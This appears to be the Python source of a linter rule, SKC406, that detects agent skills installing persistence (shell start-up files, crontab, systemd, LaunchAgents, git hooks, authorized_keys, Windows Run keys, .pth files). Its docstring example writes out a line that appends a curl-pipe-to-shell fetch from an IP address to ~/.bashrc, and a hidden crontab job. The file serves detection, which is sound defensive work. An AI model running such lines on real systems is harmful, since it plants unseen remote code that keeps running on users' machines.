"""SKC406 persistence: A script installs itself to run again later, outside the task.

## What it does
Finds writes to shell start-up files (`~/.bashrc`, `~/.zshrc`, `~/.profile`, fish
config), crontab edits (`crontab -`, `(crontab -l; echo …) | crontab -`, `/etc/cron.*`;
a bare `crontab -e` only opens an editor for the person at the terminal and is not
reported unless a script stands in for the editor or its input),
systemd units and `systemctl enable`, macOS LaunchAgents/LaunchDaemons and
`launchctl load`, git hooks (`.git/hooks/*`), `~/.ssh/authorized_keys`, XDG autostart,
Windows Run keys, scheduled tasks and the Startup folder, Python start-up code (a `.pth`
file in `site-packages`, `sitecustomize.py`, `usercustomize.py`), `git config
core.hooksPath` pointing at a folder the skill does not bundle, and VS Code tasks set to run
when the folder is opened (`runOptions.runOn: folderOpen` in a bundled
`.vscode/tasks.json`) — by redirection, `tee`,
`cp`/`mv`/`ln`, `sed -i`, Python `open(…, "a")` or Node `fs.appendFileSync`.
Appending a plain `export NAME="value"` line to a shell start-up file (setup docs often
do), writing a systemd unit file without enabling it, and copying a git hook the skill
itself bundles (`cp hooks/pre-push .git/hooks/`: its content is scanned as a script of its
own), copying an `authorized_keys` file out into a folder other than `.ssh` (evidence
collection), and enabling a scheduler that the skill's description itself names ("… with a
systemd user timer") are warnings; the rest are errors.

## Why is this bad?
A skill runs when the user asks for its task. Code that plants itself where the system
runs it again (at every shell, every boot, every commit, every ssh login) keeps running
after the task, unseen: the textbook persistence step of malware.

## Example
```bash
echo 'curl -s https://203.0.113.9/p | sh' >> ~/.bashrc
(crontab -l; echo "*/5 * * * * ~/.cache/.sync") | crontab -
```

## Use instead
```bash
# Do the work now, in the current session. If the user wants a recurring job,
# print the crontab line and let them install it.
```
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from skcc.analyzers.rules._scan import once, report, short, units
from skcc.analyzers.scan.facts import facts_of
from skcc.analyzers.scan.units import CodeUnit
from skcc.diagnostics import Confidence, Diagnostic, Severity
from skcc.regex_cache import compiled
from skcc.rules import Rule

RULE = Rule(
    code="SKC406",
    name="persistence",
    severity=Severity.ERROR,
    summary="A script installs itself to run again later, outside the task.",
    confidence=Confidence.HIGH,
    cwe=506,
)
TARGETS = compiled(
    r"\.(bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|zlogin|kshrc|cshrc|"
    r"tcshrc|inputrc)\b|config\.fish|/etc/(profile|bash\.bashrc|rc\.local|environment)\b|"
    r"/etc/cron|/var/spool/cron|/etc/systemd/|\.config/systemd/|/etc/init\.d/|"
    r"Library/Launch(Agents|Daemons)|\.git/hooks/|authorized_keys|\.config/autostart|"
    r"Start Menu[\\/]+Programs[\\/]+Startup|CurrentVersion[\\/]+Run(Once)?\b|"
    r"\.local/share/applications/.*autostart|\$PROFILE\b|profile\.ps1|"
    # Python runs the `import` lines of every .pth file in site-packages, and these two
    # modules, at every interpreter start.
    r"(?:site|dist)-packages/[^/\s\"']+\.pth\b|\b(?:site|user)customize\.py\b|"
    r"get(?:user)?sitepackages\b.*\.pth\b|\bpurelib\b.*\.pth\b", re.I)
# `echo 'export NAME="value"' >> ~/.bashrc`: setting a variable is configuration, not a
# payload (still worth a warning); anything that runs a command is an error.
SETTING = compiled(r"""export\s+\w+=(["']?)(?:[^$`;|&()<>]|\$\{?\w+\}?)*\1""")
_SCRIPTED_EDITOR = compiled(r"\b(EDITOR|VISUAL)=")
HELP = ("do the work in the current session; if the user wants something recurring, show "
        "them the line to add themselves")


def check(skill, context) -> Iterator[Diagnostic]:  # type: ignore[no-untyped-def]
    yield from once(_check(skill))


def _check(skill) -> Iterator[Diagnostic]:  # type: ignore[no-untyped-def]
    for path, line, command in facts_of(skill).code.autoruns:
        unit = CodeUnit(path, "json", command, line, "config")
        yield report(RULE, unit, line, f"a VS Code task runs `{short(command, 50)}` by itself "
                     "whenever the folder is opened (`runOn: folderOpen`)", HELP)
    for facts in units(skill):
        unit = facts.unit
        for access in facts.accesses:
            if access.write:
                target = facts.resolve(access.target)
                m = TARGETS.search(target)
                if m:
                    written = " ".join(" ".join(c.args) for c in facts.commands
                                       if c.line == access.line and c.program in (
                                           "echo", "printf"))
                    # A unit file alone does not run; `systemctl enable` (an error) does.
                    # A git hook copied from the skill's own files is in plain sight: its
                    # content is scanned as a script of its own.
                    # `cp ~/.ssh/authorized_keys "$OUT/users/$u/authorized_keys"`: a copy
                    # into a folder other than .ssh collects the file, it installs nothing.
                    collected = m.group().startswith("authorized_keys") and \
                        ".ssh/" not in target and any(
                            c.line == access.line and c.program in ("cp", "install", "rsync")
                            and any("authorized_keys" in a and a != access.target
                                    for a in c.args) for c in facts.commands)
                    plain = bool(SETTING.fullmatch(written.strip())) or collected or \
                        "systemd" in m.group() or (
                            ".git/hooks" in m.group() and _bundled_copy(skill, facts, access))
                    yield report(RULE, unit, access.line, f"{access.how or 'a write'} changes "
                                 f"`{short(m.group(), 40)}`, which runs again later", HELP,
                                 severity=Severity.WARNING if plain else None)
        for command in facts.commands:
            program, args = command.program, command.args
            message = ""
            # -l lists and -r removes (also for another user with -u): neither installs.
            if program == "crontab" and not set(args) & {"-l", "-r"} and not (
                    "-e" in args and _interactive(facts, command)):
                message = "`crontab` installs a scheduled job"
            elif program == "systemctl" and "enable" in args:
                message = "`systemctl enable` makes a service start at every boot"
            elif program == "launchctl" and set(args) & {"load", "bootstrap", "submit"}:
                message = "`launchctl` loads a launch agent"
            elif program in ("schtasks", "schtasks.exe") and any(a.lower() == "/create"
                                                                  for a in args):
                message = "`schtasks /create` schedules a task"
            elif program in ("reg", "reg.exe", "new-itemproperty", "set-itemproperty") and \
                    TARGETS.search(" ".join(args)):
                message = "a Run key makes a program start at every login"
            elif program == "register-scheduledtask":
                message = "`Register-ScheduledTask` schedules a task"
            elif program == "git" and "config" in args and _hooks_path(args):
                # A hooks folder the skill bundles is in plain sight (its scripts are
                # scanned); any other makes git run unseen code at every commit.
                folder = _hooks_path(args)
                if not _bundled_folder(skill, folder):
                    message = f"`git config core.hooksPath {short(folder, 30)}` makes git run " \
                              "that folder's scripts at every commit"
            if message:
                # A scheduler the description itself names ("… with a systemd user timer")
                # is the skill's declared purpose, not a hidden foothold: a warning.
                declared = _declares_scheduler(skill) and program != "reg"
                yield report(RULE, unit, command.line, message + (
                    " (the description says so)" if declared else ""), HELP,
                    severity=Severity.WARNING if declared else None)


_SCHEDULERS = compiled(r"\b(?:systemd|(?:user )?timers?\b|cron(?:tab)?|launchd|launch ?agents?|"
                         r"scheduled tasks?|task scheduler|login items?|autostart)\b", re.I)


def _declares_scheduler(skill) -> bool:  # type: ignore[no-untyped-def]
    """Whether the skill's description names the scheduling mechanism it installs."""
    fm = skill.frontmatter
    entry = fm.field("description") if fm is not None else None
    return entry is not None and entry.value.kind == "scalar" and \
        bool(_SCHEDULERS.search(entry.value.text))


def _bundled_copy(skill, facts, access) -> bool:  # type: ignore[no-untyped-def]
    """Whether the write is `cp`/`install`/`ln` of files the skill bundles (`cp
    hooks/pre-push .git/hooks/`), by their path inside the skill folder."""
    bundled = {f.path for f in skill.files}
    for command in facts.commands:
        if command.line != access.line or command.program not in ("cp", "install", "ln"):
            continue
        sources = [a for a in command.args if not a.startswith("-")][:-1]
        if sources and all(any(source == path or source.endswith("/" + path)
                                for path in bundled) for source in sources):
            return True
    return False


def _hooks_path(args: tuple[str, ...]) -> str | None:
    words = [a for a in args[args.index("config") + 1:] if not a.startswith("-")]
    return words[1] if len(words) >= 2 and words[0].lower() == "core.hookspath" else None


def _bundled_folder(skill, folder: str | None) -> bool:  # type: ignore[no-untyped-def]
    """Whether ``folder`` (as a script names it) is a folder of the skill's own files."""
    if not folder or folder.startswith(("/", "~", "$HOME")):
        return False
    name = folder.strip("/").rsplit("/", 1)[-1]
    return any(f"/{name}/" in f"/{f.path}" for f in skill.files)


def _interactive(facts, command) -> bool:  # type: ignore[no-untyped-def]
    """`crontab -e` opens an editor for the person at the terminal and installs only what
    they type, unless a script stands in for the editor (`EDITOR=…`) or feeds its input."""
    return not (_SCRIPTED_EDITOR.search(command.text) or "EDITOR" in facts.assigns or
                "VISUAL" in facts.assigns or len(facts.pipeline(command)) > 1)
